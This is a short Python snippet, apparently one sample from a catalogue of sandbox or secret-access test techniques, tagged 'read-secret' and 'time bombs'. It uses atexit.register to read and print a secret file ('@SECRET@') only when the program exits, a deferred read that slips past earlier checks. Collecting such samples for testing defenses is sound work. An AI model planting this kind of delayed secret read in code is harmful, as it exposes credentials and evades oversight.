# technique: atexit.register
# goal: read-secret
# source: time bombs
import atexit
atexit.register(lambda: print(open('@SECRET@').read()))
